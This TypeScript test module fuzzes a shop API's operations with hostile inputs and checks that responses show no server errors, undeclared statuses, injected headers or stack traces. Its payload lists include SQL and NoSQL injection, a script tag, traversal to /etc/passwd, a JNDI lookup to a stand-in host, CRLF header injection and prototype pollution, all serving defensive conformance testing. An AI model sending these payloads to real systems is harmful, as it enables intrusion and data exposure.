/** Malicious requests from the contract's request schemas: no internal error, no undeclared status, no stack trace. */
import * as z from 'zod/mini'
import { operations } from '../../src/index.ts'
import { responseSchema } from '../check-response.ts'
import { type ConformanceRun, operationNamed } from '../conformance-run.ts'
import { shorten } from '../describe-value.ts'
import type { OperationRequest } from '../http-client.ts'
import { CONNECTION_CLOSED, type HostResponse } from '../model.ts'
import { isObject, unwrapped } from '../value-at.ts'
import type { Product } from './cart-requests.ts'
import { validRequests } from './fuzz-requests.ts'
import { idempotencyKey } from './order-requests.ts'

/** Sent as JSON in bodies, as text in queries and paths. */
const MALICIOUS_VALUES: readonly unknown[] = [
  null,
  -1,
  1e308,
  18_014_398_509_481_984,
  '',
  [],
  [['nested'], { key: {} }],
  { $gt: '' },
  `' OR '1'='1' -- `,
  '<script>alert(1)</script>',
  '../../../../etc/passwd\u0000.png',
  '$\u007bjndi:ldap://foreign-host.example/x}{{7*7}}',
  'value\r\nX-Injected: 1',
  '\ud800 \u202e \u{1f600}',
  'x'.repeat(1_500),
]

const MALICIOUS_BODIES: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}}}',
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  '{"unfinished":',
  '\u0000',
]

const STACK_TRACE =
  /\n\s+at .+:\d+:\d+|Traceback \(most recent call last\)|\.php(?:\(\d+\)|:\d+| on line \d+)|SQLSTATE\[|SQLITE_ERROR|syntax error at or near|java\.lang\.|System\.\w+Exception|"(?:trace|stack|stacktrace)":/

export async function checkMaliciousInput(run: ConformanceRun, products: readonly Product[]): Promise<void> {
  const valid = await validRequests(run, products)
  for (const name of operationsToFuzz()) {
    if (!run.isSelected(name)) continue
    for (const request of maliciousRequests(name, valid.get(name) ?? {})) await sendMalicious(run, name, request)
  }
  await run.request('catalog.products', { expect: [200] })
}

/** The sign-out last, because the others need the session. */
const operationsToFuzz = (): string[] =>
  operations.map(({ name }) => name).toSorted((a, b) => Number(a === 'auth.signout') - Number(b === 'auth.signout'))

function* maliciousRequests(name: string, valid: OperationRequest): Generator<OperationRequest> {
  const { route } = operationNamed(name)
  const { headers } = valid
  for (const key of Object.keys(headers ?? {})) {
    for (const value of MALICIOUS_VALUES.filter(isHeaderValue))
      yield { ...valid, headers: { ...headers, [key]: value } }
  }
  for (const [part, schema] of [
    ['query', 'query' in route ? route.query : undefined],
    ['params', route.pathParams],
  ] as const) {
    for (const [key] of fieldPaths(schema)) {
      for (const value of MALICIOUS_VALUES) {
        const malicious = typeof value === 'string' ? value : JSON.stringify(value)
        yield { ...valid, [part]: { ...valid[part], [String(key)]: malicious || ' ' } }
      }
    }
  }
  if (route.method === 'GET' || !('body' in route)) return
  if (!(valid.body instanceof FormData)) {
    for (const path of fieldPaths(route.body)) {
      yield { ...valid, body: changed(valid.body, path, undefined) }
      for (const value of MALICIOUS_VALUES) yield { ...valid, body: changed(valid.body, path, value) }
    }
  }
  for (const body of MALICIOUS_BODIES) {
    yield { ...valid, body, headers: { ...headers, 'content-type': 'application/json' } }
  }
  yield { ...valid, body: 'x', headers: { ...headers, 'content-type': 'multipart/form-data; boundary=' } }
}

/** The paths of all fields of an object schema, nested ones included. */
function fieldPaths(schema: unknown): string[][] {
  const object = unwrapped(schema)
  if (!(object instanceof z.core.$ZodObject)) return []
  return Object.entries(object._zod.def.shape).flatMap(([key, field]) => [
    [key],
    ...fieldPaths(field).map((path) => [key, ...path]),
  ])
}

/** A copy of a body with another value at a path. */
function changed(body: unknown, [key, ...rest]: readonly string[], value: unknown): unknown {
  if (key === undefined) return value
  const owner = isObject(body) ? body : {}
  const inner: unknown = Reflect.get(owner, key)
  return { ...owner, [key]: changed(inner, rest, value) }
}

/** Node.js sends no others. */
const isHeaderValue = (value: unknown): value is string => typeof value === 'string' && /^[ -~]*$/.test(value)

async function sendMalicious(
  run: ConformanceRun,
  name: string,
  { headers: sent, ...request }: OperationRequest,
): Promise<void> {
  // A used key would hide the body behind 409.
  const hasKey = z.safeParse(z.uuid(), sent?.['idempotency-key']).success
  const fresh = hasKey ? { ...sent, ...idempotencyKey() } : sent
  const response = await run.send(operationNamed(name), { ...request, ...(fresh && { headers: fresh }) })
  if (response.status === CONNECTION_CLOSED) return
  const { status, text, headers, operation } = response
  const verify = (holds: boolean, message: string, expected: string, received: string) =>
    run.verify(response, holds, { rule: 'malicious input', message, expected, received })
  verify(status < 500, 'an internal error after malicious input', 'a status below 500', String(status))
  const declared = Object.keys(operation.route.responses).join(', ')
  const isDeclared = responseSchema(operation, status) !== undefined
  verify(isDeclared, 'an undeclared status after malicious input', declared, String(status))
  verify(headers['x-injected'] === undefined, 'malicious input became a header', 'no such header', 'x-injected')
  verify(
    !STACK_TRACE.test(text),
    'the response shows a stack trace after malicious input',
    'no internals',
    traceOf(response),
  )
}

const traceOf = ({ text }: HostResponse): string => {
  const at = STACK_TRACE.exec(text)?.index ?? 0
  return JSON.stringify(shorten(text.slice(Math.max(0, at - 20)), 80))
}
